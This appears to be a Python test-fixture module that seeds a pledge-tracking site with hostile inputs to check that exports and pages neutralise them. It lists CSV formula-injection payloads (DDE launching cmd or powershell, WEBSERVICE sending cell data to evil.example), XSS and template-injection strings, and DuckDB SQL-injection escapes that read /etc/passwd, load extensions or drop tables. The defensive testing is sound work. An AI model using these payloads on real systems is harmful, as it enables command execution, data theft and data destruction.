"""Texts that mean harm: 60 that a spreadsheet would run as a formula, 40 that a page or a document would run, load or turn around;
13 statements of DuckDB."""

import re

from etl.records import calls, decisions, figure_notes, holds, saved_views
from tests.support import etl_fixtures, pledge_forms

_CALLS = (
    "1+1", "cmd|' /C calc'!A0", 'HYPERLINK("http://evil.example","x")', 'WEBSERVICE("http://evil.example/"&A1)', 'IMPORTXML("http://evil.example","//a")',
    "SUM(1)", 'DDE("cmd","/C calc","x")', "'file:///etc/passwd'#$A.1", 'IMAGE("http://evil.example/p.png")', "1*cmd|'/C powershell'!A1",
)  # fmt: skip
FORMULAS = (
    *(f"={call}" for call in _CALLS),
    *(f"{sign}{call}" for sign in "+-@" for call in _CALLS[:6]),
    *(f"{sign}{call}" for sign in "＝＋－＠" for call in _CALLS[:4]),
    *(f"{lead}={call}" for lead in ("\t", "\r", "\n", " ", "\u00a0", "\u200b", "\ufeff", "\v", "\x1c") for call in _CALLS[:1]),
    "{=1+1}", "http://evil.example/x", "external:evil.xlsx", "mailto:a@evil.example", "x;=1+1", 'x",=1+1', "%0A=1+1",
)  # fmt: skip
SCRIPTS = (
    "<script>window.evil=1</script>", "</script><script>window.evil=1</script>", "<img src=x onerror=window.evil=1>", "<svg onload=window.evil=1>",
    "<svg><script>window.evil=1</script></svg>", '<a href="javascript:window.evil=1">evil</a>', "<iframe src=http://evil.example></iframe>",
    '"><img src=http://evil.example/a.png>', "'-window.evil=1-'", "<details open ontoggle=window.evil=1>", '<math href="javascript:window.evil=1">evil</math>',
    "<style>@import 'http://evil.example/a.css'</style>", "<link rel=stylesheet href=http://evil.example/b.css>", "<!--<img src=x onerror=window.evil=1>-->",
    "<b onmouseover=window.evil=1>evil</b>", "&lt;script&gt;window.evil=1&lt;/script&gt;", "&#60;script&#62;window.evil=1&#60;/script&#62;",
    "[evil](http://evil.example)", "![evil](http://evil.example/c.png)", "[evil](javascript:window.evil=1)", "![evil][r]\n\n[r]: http://evil.example/d.png",
    "<http://evil.example>", "http://evil.example/bare", "www.evil.example", "evil@evil.example", "javascript:window.evil=1",
    "data:text/html,<script>window.evil=1</script>", "{{constructor.constructor('window.evil=1')()}}", "${window.evil=1}", "{% evil %}", "{evil}{0}{by}", "%(evil)s %s",
    ":red[evil] :rainbow[evil]", ":material/delete: :evil: :blue-badge[evil]", "$\\href{http://evil.example}{evil}$", "$$\\unicode{evil}$$",
    "# evil\n---\n| evil | evil |\n|-|-|", "evil\u202egnp.exe", "{evil|rich} {b} {@[1]}", '#panic("evil") #image("evil") \\input{evil}',
)  # fmt: skip
assert (len(FORMULAS), len(SCRIPTS)) == (60, 40)

# As they stand in a text that is meant to end the one around it, and the statement that they would run.
ESCAPES = {
    "'; attach '{out}' as evil; --": "attach '{out}' as evil",
    "' union all select content from read_text('/etc/passwd') --": "select content from read_text('/etc/passwd')",
    "read_csv('/etc/passwd')": "select * from read_csv('/etc/passwd', auto_detect = false, columns = {{'a': 'varchar'}})",
    "'; copy (select 1) to '{out}'; --": "copy (select 1) to '{out}'",
    "'; install httpfs; --": "install httpfs",
    "'; load httpfs; --": "load httpfs",
    "'; load '{out}'; --": "load '{out}'",
    "'; pragma database_list; --": "pragma enable_profiling",
    "'; set enable_external_access = true; --": "set enable_external_access = true",
    "'; set lock_configuration = false; --": "set lock_configuration = false",
    "' || getenv('PATH') || '": "select getenv('PATH')",
    '"); drop table mart.country; --': "drop table mart.country",
    "'; export database '{out}'; --": "export database '{out}'",
}

# What a page would run, load, link or style of these where it takes them for markup: as it stands in the source of markdown and HTML.
ACTIVE = re.compile(
    r"(?<!\\)(?:<(?=[a-z!/])(?:script|img|svg|a |iframe|details|math|style|link|b |!--|http)[^>]*(?:evil|onerror|onload)"
    r"|\]\((?:http|javascript)[^)]*evil|!\[evil\]|\]: http"
    r"|:(?:red|rainbow|blue-badge)\[evil|:material/delete:|\$\\href|\$\$)",
    re.IGNORECASE,
)


def is_run(text: object) -> bool:
    """Whether a spreadsheet that opens this cell of a file of text would run it: a sign first, however it is led in."""
    letters = re.sub(r"^[\s\u200b\ufeff\x00-\x20]+", "", str(text))
    return letters.startswith(("=", "+", "-", "@", "＝", "＋", "－", "＠"))


SENTENCE = "One quick reaction force company for MINUSCA by June 2026"
UNIT = ("Fiji", "qrf_company", "military", "150", "Level 2", "2026-05-01", "available")
UNIT_HEADINGS = ("pledge_id", "state", "capability", "component", "strength", "level", "date_accepted", "status")


def site(folder, monkeypatch):
    """A site whose files and records say these texts wherever a person may write one; the id of its first pledge."""
    monkeypatch.setenv("LEDGER_AUDIENCE", "restricted")
    made = etl_fixtures.Site(folder, monkeypatch)
    pledge_forms.know_states(made.data, "QMB")
    said = [["Member State QMB", "Berlin 2025", "Uniformed capabilities", f"{SENTENCE} {text}"] for text in SCRIPTS]
    heads = ("Member State", "Ministerial", "Category", "Pledge description")
    made.drop("<img src=x onerror=window.evil=1>.csv", etl_fixtures.csv_text(said, heads), "pledges")
    units = [[f"U{place} {text}", *UNIT] for place, text in enumerate(SCRIPTS)]
    made.drop("[evil](http:evil) 2026-06-30.csv", etl_fixtures.csv_text(units, UNIT_HEADINGS), "pcrs_roster")
    made.build()
    waiting = list(pledge_forms.waiting(made).values())
    for place, candidate in enumerate(waiting[:12]):
        by, reason = SCRIPTS[place][:80], SCRIPTS[-place - 1]
        decisions.decide(candidate, "confirm", by, reason=reason, new={"condition": reason})
        decisions.decide(candidate, "status", by, base=2 * place + 1, new=pledge_forms.ANNOUNCED | {"source": reason})
    made.build()
    for place, text in enumerate(SCRIPTS[:26]):
        by = SCRIPTS[-place - 1][:80]
        figure_notes.write("state", "QMB", by, text, "open")
        calls.note("QMB", by, {"assigned_to": by, "called_on": "2026-02-14", "answer": text, "next_step": text}, base=place, audience="restricted", shared=True)  # fmt: skip
        saved_views.save("", text[:80], "country", {"iso3": "QMB"}, False)
    holds.hold("FRA", SCRIPTS[0][:80], SCRIPTS[17], base=0)
    return made, waiting
